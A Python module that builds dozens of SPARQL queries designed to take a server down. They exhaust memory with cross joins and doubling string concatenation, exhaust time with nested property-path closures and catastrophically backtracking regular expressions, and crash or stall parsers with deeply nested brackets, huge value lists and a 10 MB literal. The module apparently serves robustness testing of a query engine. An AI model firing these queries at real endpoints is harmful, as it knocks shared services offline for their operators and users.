"""Queries that are meant to take a server down."""

from __future__ import annotations

from collections.abc import Mapping

NEXT = "<http://e.org/next>"
"""The property of the chain that path queries run along."""
CROSS = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
MOST = 900_000
"""Bytes, below what a query may be long."""


def repeated(piece: str, count: int = MOST) -> str:
    """A piece as often as it is asked for, and as fits."""
    return piece * min(count, MOST // len(piece))


def chained(begin: str, function: str, times: int) -> str:
    """SELECT of a chain of BINDs, each with the function of the one before."""
    steps = [f"BIND({function.replace('?x', f'?x{step}')} AS ?x{step + 1})" for step in range(times)]
    return f"SELECT (STRLEN(?x{times}) AS ?n) {{ BIND({begin} AS ?x0) {' '.join(steps)} }}"


def one_by_one(piece: str, count: int) -> str:
    """A piece with the numbers from 0 in the places of `#`."""
    return " ".join(piece.replace("#", str(number)) for number in range(count))


def filtered(condition: str, pattern: str = "?a ?b ?c . ?d ?e ?f") -> str:
    """SELECT of what fulfils a condition."""
    return f"SELECT * {{ {pattern} FILTER({condition}) }}"


TAG = repeated("-aaaaaaaa", 9999)
WIDE = r"(?:\\p{L}{1,1000}){1,500}"
MEMORY: Mapping[str, str] = {
    "cross join, ordered": f"SELECT * {{ {CROSS} }} ORDER BY ?a ?i",
    "cross join, random order": f"SELECT * {{ {CROSS} }} ORDER BY RAND()",
    "cross join, distinct": f"SELECT (COUNT(*) AS ?n) {{ SELECT DISTINCT ?a ?d ?g {{ {CROSS} }} }}",
    "cross join, groups": f"SELECT ?a (COUNT(DISTINCT ?d) AS ?n) {{ {CROSS} }} GROUP BY ?a HAVING(?n > 9e9)",
    "group concat": f"SELECT (GROUP_CONCAT(?a; SEPARATOR='a long separator') AS ?n) {{ {CROSS} }}",
    "doubling concat": chained("'xxxxxxxx'", "CONCAT(?x, ?x)", 40),
    "multiplying replace": chained("'xxxxxxxx'", "REPLACE(?x, 'x', 'xxxxxxxxxxxxxxxx')", 9),
    "long language tags": f"SELECT (STRLANG(STR(?a), 'en{TAG}') AS ?x) {{ {CROSS} }} ORDER BY ?x",
}
"""What would take all memory."""

TIME: Mapping[str, str] = {
    "cross join, counted": f"SELECT (COUNT(*) AS ?n) {{ {CROSS} }}",
    "path closure": f"SELECT (COUNT(*) AS ?n) {{ ?a {NEXT}+ ?b }}",
    "path closure both ways": f"SELECT (COUNT(*) AS ?n) {{ ?a ({NEXT}|^{NEXT})* ?b }}",
    "closures of closures": f"SELECT (COUNT(*) AS ?n) {{ ?a ((({NEXT}+)+)*)+ ?b }}",
    "closure of all": "SELECT (COUNT(*) AS ?n) { ?a (!<a:a>)* ?b }",
    "long path": f"SELECT * {{ ?a {repeated(NEXT + '/', 5000)}{NEXT} ?b }}",
    "many paths": f"SELECT * {{ ?a {repeated(NEXT + '|', 5000)}{NEXT} ?b }}",
    "5,000 unions": f"SELECT (COUNT(*) AS ?n) {{ {repeated('{ ?a ?b ?c } UNION ', 5000)} {{ ?a ?b ?c }} }}",
    "2,000 optionals": f"SELECT * {{ ?a ?b ?c {one_by_one('OPTIONAL { ?a# ?b ?c }', 2000)} }}",
    "3,000 patterns": f"SELECT * {{ {one_by_one('?s# ?p# ?s . ', 3000)} }}",
    "product of values": f"SELECT (COUNT(*) AS ?n) {{ {one_by_one('VALUES ?x# { ' + '1 ' * 999 + '}', 6)} }}",
    "nested optionals": f"SELECT * {{ {repeated('?a ?b ?c OPTIONAL { ', 190)}{'}' * 190} }}",
    "regular expression": filtered("REGEX(CONCAT(STR(?a), STR(?d)), '^(a+)+(.*)*(.+)+x$')"),
    "exploding regular expression": f"ASK {{ FILTER(REGEX('{'a' * 5000}', '(((a{{0,500}}){{0,500}}){{0,500}})b')) }}",
    "backtracking": f"ASK {{ FILTER(REGEX('{'a' * 50_000}', '(a+)+b')) }}",
    "huge regular expression": filtered(f"REGEX(STR(?a), '{WIDE}')", "?a ?b ?c"),
    "regular expressions from data": filtered(f"REGEX(STR(?a), CONCAT(STR(?d), '{WIDE[:15]}'))"),
    "minus": f"ASK {{ ?a ?b ?c {repeated('MINUS { ?a ?b ?d } ', 20_000)} }}",
    "exists": f"ASK {{ {repeated('FILTER EXISTS { ?a ?b ?c } ', 20_000)} }}",
}
"""What would take all time."""

TEXT: Mapping[str, str] = {
    "parentheses": f"ASK {{ FILTER({'(' * 50_000}1{')' * 50_000}) }}",
    "braces": f"ASK {'{' * 50_000}{'}' * 50_000}",
    "square brackets": f"ASK {{ {'[ <a:a> ' * 50_000}{']' * 50_000} }}",
    "lists": f"ASK {{ ?s ?p {'( ' * 50_000}{')' * 50_000} }}",
    "quoted triples": f"ASK {{ {'<< ' * 50_000} }}",
    "negations": f"ASK {{ FILTER({'!' * 50_000}true) }}",
    "spaced negations": f"ASK {{ FILTER({'! ' * 50_000}true) }}",
    "signs": f"ASK {{ FILTER({'-' * 50_000}1) }}",
    "spaced signs": f"ASK {{ FILTER({'- ' * 50_000}?x) }}",
    "inverse paths": f"ASK {{ ?a {'^' * 50_000}{NEXT} ?b }}",
    "path modifiers": f"ASK {{ ?a {NEXT}{'*' * 50_000} ?b }}",
    "functions": f"ASK {{ FILTER({'STR(' * 199}1{')' * 199}) }}",
    "selects": f"SELECT * {{ {'{ SELECT * ' * 99}{{}}{'}' * 99} }}",
    "sum": f"ASK {{ FILTER({repeated('1+', 100_000)}1) }}",
    "product": f"ASK {{ FILTER({repeated('?x*', 100_000)}1) }}",
    "alternatives of truth": f"ASK {{ FILTER({repeated('?x||', 100_000)}?x) }}",
    "list of values": f"ASK {{ ?a ?b ?c FILTER(?a IN ({repeated('1,', 200_000)}1)) }}",
    "arguments": f"SELECT (CONCAT({repeated('?a,', 100_000)}?a) AS ?x) {{}}",
    "alternative paths": f"ASK {{ ?a {repeated('<a:a>|', 100_000)}<a:a> ?b }}",
    "path steps": f"ASK {{ ?a {repeated('<a:a>/', 100_000)}<a:a> ?b }}",
    "semicolons": f"ASK {{ ?s {repeated('<a:a> <a:b> ; ', 40_000)} <a:c> ?o }}",
    "commas": f"ASK {{ ?s <a:a> {repeated('<a:b> , ', 80_000)} ?o }}",
    "long list": f"ASK {{ ?s <a:a> ({repeated('1 ', 200_000)}) }}",
    "filters": f"ASK {{ {repeated('FILTER(1) ', 80_000)} }}",
    "variables": f"ASK {{ {one_by_one('BIND(1 AS ?v#)', 30_000)} }}",
    "prefixes": one_by_one("PREFIX p#: <http://e.org/>", 20_000) + " ASK {}",
    "huge values": f"SELECT * {{ VALUES ?x {{ {repeated('1 ', 400_000)} }} }}",
    "10 MB": f"ASK {{ ?s ?p '{'x' * 10_000_000}' }}",
    "services": f"SELECT * {{ {'SERVICE <http://127.0.0.1:9/> {} ' * 20_000} }}",
    "what may be a path": f"SELECT * {{ {repeated(') *x ', 150_000)}",
    "what may be an iri": f"ASK {{}} {repeated('!=', 450_000)}",
    "one long comment": f"ASK {{}} #{'x' * MOST}",
    "one long name": f"ASK {{ ?s <http://e.org/{'x' * MOST}> ?o }}",
}
"""What would end a parser, or hold it."""
